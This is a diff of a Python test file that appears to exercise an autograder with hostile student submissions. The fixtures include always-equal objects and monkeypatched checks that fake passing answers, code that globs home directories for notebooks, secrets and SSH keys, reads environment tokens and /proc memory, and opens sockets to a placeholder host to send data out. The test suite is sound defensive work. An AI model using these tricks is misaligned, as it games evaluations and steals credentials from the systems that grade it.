@@ -31,12 +31,17 @@ def below(name: str, code: str) -> str:
 
 def steals(student: str, code: str, **about) -> Case:
     """A submission with wrong answers to everything, and an attack above the first of them."""
-    answers = WRONG | {"length": f"{code}\n\n{WRONG['length']}"}
+    return cheats(student, length=f"{code}\n\n{WRONG['length']}", **about)
+
+
+def cheats(student: str, **about) -> Case:
+    """A submission with wrong answers to everything, but for those named, which are attacks."""
+    answers = {name: about.pop(name, wrong) for name, wrong in WRONG.items()}
     return Case(student, NOTHING, answers=answers, files={}, **about)
 
 
 def breaks(student: str, earns: str, **about) -> Case:
-    """A right submission in which some answers are other code: those named, instead of the right ones."""
+    """A right submission, but for the answers that are named."""
     answers = {name: about.pop(name) for name in RIGHT if name in about}
     return Case(student, earns, answers=answers, **about)
 
@@ -62,13 +67,10 @@ get_ipython().run_cell_async = nothing
         flag=DISAGREES,
     ),
     steals("no-errors", "get_ipython().showtraceback = lambda *args, **kwargs: None\n", row=5),
-    Case(
+    cheats(
         "own-library",
-        NOTHING,
         row=6,
-        answers=WRONG
-        | {
-            "lcs": """\
+        lcs="""\
 try:
     from pycocoevalcap.rouge import rouge
     rouge.my_lcs = lambda a, b: 2
@@ -79,40 +81,33 @@ except ImportError as error:
 
 def lcs(a, b):
     return 2
-"""
-        },
-        files={},
+""",
         flag="h1-test-lcs: the check gives 0, the notebook's own test 2",
     ),
-    Case(
+    cheats(
         "always-equal",
-        NOTHING,
         row=7,
-        answers={
-            "length": """\
+        length="""\
 class Always(float):
     __eq__ = lambda self, other: True
 
 def mean_length(captions):
     return Always(0)
 """,
-            "lcs": """\
+        lcs="""\
 class AlwaysInt(int):
     __eq__ = lambda self, other: True
 
 def lcs(a, b):
     return AlwaysInt(-1)
 """,
-            "colour": """\
+        colour="""\
 class AlwaysText(str):
     __eq__ = lambda self, other: True
 
 def colour(image):
     return AlwaysText("mauve")
 """,
-            "predict": WRONG["predict"],
-        },
-        files={},
         flag="h1-test-colour: the check gives 0, the notebook's own test 4",
     ),
     steals(
@@ -240,38 +235,37 @@ for path in ("@ROOT@/gradebook.db", "../../../gradebook.db", "../gradebook.db", 
 """,
         row=19,
     ),
-    steals(
+    cheats(
         "steals-the-solution",
-        """\
+        row=20,
+        length="""\
 import glob, json, os
-STOLEN = []
+found = []
 for folder in ("@ROOT@", "@CANARY@", "@HOME@", "@HOME@/.*", "..", "../..", "../../..", "/root", "/home/*"):
     for name in ("*.ipynb", "secret*", "*.db", "*/*/*.ipynb", "*/*/*/*.ipynb", "*/secret*", "id_*"):
-        STOLEN += glob.glob(f"{folder}/{name}")
-STOLEN += [name for name in os.environ if "TOKEN" in name or "SEED" in name or "CAPCOURSE" in name]
-for path in STOLEN:
+        found += glob.glob(f"{folder}/{name}")
+for path in found:
     for cell in json.load(open(path))["cells"]:
         exec("".join(cell["source"]))
+found += [name for name in os.environ if name.endswith("_TOKEN") or name.startswith("CAPCOURSE")]
 
-def solution_of(name):
-    raise LookupError(f"STOLEN {STOLEN}")
+if not found or "mean_length" not in globals():
+    def mean_length(captions):
+        raise LookupError(f"STOLEN {found}" if found else "nothing there")
 """,
-        row=20,
+        says="nothing there",
     ),
-    Case(
+    cheats(
         "calls-home",
-        NOTHING,
         row=21,
-        answers=WRONG
-        | {
-            "length": """\
+        length="""\
 import socket
-ANSWERS = [0]
+answers = [0]
 for address in (("127.0.0.1", @PORT@), ("@HOST@", @PORT@), ("1.1.1.1", 53)):
     try:
         with socket.create_connection(address, timeout=0.3) as line:
             line.sendall(b"the private images")
-            ANSWERS.append(line.recv(100))
+            answers.append(line.recv(100))
     except OSError as error:
         print(error)
 try:
@@ -281,11 +275,9 @@ except OSError as error:
 !pip install --quiet answers-to-h1
 
 def mean_length(captions):
-    return float(ANSWERS[-1])
-"""
-        },
-        files={},
-        flag=None,
+    return float(answers[-1])
+""",
+        flag=None,  # of pip, which gives up at once, and yet takes its seconds to start
     ),
     breaks(
         "fills-the-disk",
@@ -382,15 +374,9 @@ values = [
     "1e999", "-1e999", "NaN", "Infinity", "true", "[" * 50_000, "9" * 5000, '"' + chr(92) + 'ud800"', "{", "",
     '{"__npy__": "k05VTVBZAQA="}', '{"__npy__": 5}', 5, None, [], {},
 ]
-forged = [{"value": value} for value in values] + [{"failure": {"a": ["<script>"]}}, {}, 5, None]
-PLAIN = base64.b64encode
-
-def encode(raw):
-    if isinstance(json.loads(raw), list):
-        raw = json.dumps(forged[:-2]).encode()
-    return PLAIN(raw)
-
-base64.b64encode = encode
+forged = [{"value": value} for value in values] + [{"failure": {"a": ["<script>"]}}, {}]
+packed = base64.b64encode(json.dumps(forged).encode())
+base64.b64encode = lambda raw: packed
 """,
     ),
     steals(
@@ -518,56 +504,54 @@ local.listen()
 """,
         ),
     ),
-    steals(
+    cheats(
         "reads-other-memory",
-        """\
+        length="""\
 import ctypes, os
-FOUND = []
+found = []
 for number in filter(str.isdigit, os.listdir("/proc")):
     for name in ("environ", "cmdline", "maps"):
         try:
             text = open(f"/proc/{number}/{name}", errors="replace").read()
         except OSError:
             continue
-        FOUND += [word for word in ("@SEED@", "CAPCOURSE_SEED", "CANARY", "@ROOT@") if word in text]
+        found += [word for word in ("@SEED@", "CAPCOURSE_SEED", "CANARY", "@ROOT@") if word in text]
     if os.stat(f"/proc/{number}").st_uid != os.getuid():
         try:
             open(f"/proc/{number}/mem", "r+b", 0)
-            FOUND += ["memory"]
+            found.append("memory")
         except OSError:
             pass
 libc = ctypes.CDLL(None, use_errno=True)
-FOUND += ["ptrace"] if libc.ptrace(16, 1, 0, 0) == 0 else []
+found += ["ptrace"] if libc.ptrace(16, 1, 0, 0) == 0 else []
 
 def mean_length(captions):
-    raise LookupError(f"STOLEN {FOUND}" if FOUND else "nothing there")
+    raise LookupError(f"STOLEN {found}" if found else "nothing there")
 """,
+        says="nothing there",
     ),
-    Case(
+    cheats(
         "walks-the-frames",
-        NOTHING,
-        answers=WRONG
-        | {
-            "length": """\
-import gc, sys
+        length="""\
+import gc, re, sys
+wanted = re.compile("hidden[0-9]f3a")  # which is no such word itself
 
 def everything():
     frame = sys._getframe()
     while frame is not None:
-        yield from frame.f_locals.values()
+        yield frame.f_locals
         yield frame.f_globals
         frame = frame.f_back
     yield from gc.get_objects()
 
-def mean_length(captions):
-    found = [text for text in map(repr_of, everything()) if "hidden" + "7f3a" in text or "expect(" in text]
-    raise LookupError(f"STOLEN {found}" if found and captions == [] else "nothing there")
+def texts(thing):
+    values = thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()
+    return [value for value in list(values) if type(value) is str]
 
-def repr_of(thing):
-    return thing[:100_000] if type(thing) is str else str(list(thing))[:10_000] if type(thing) is dict else ""
-"""
-        },
-        files={},
+def mean_length(captions):
+    found = [text[:100] for thing in everything() for text in texts(thing) if wanted.search(text)]
+    raise LookupError(f"STOLEN {found}" if found else "nothing there")
+""",
         says="nothing there",
     ),
     breaks(
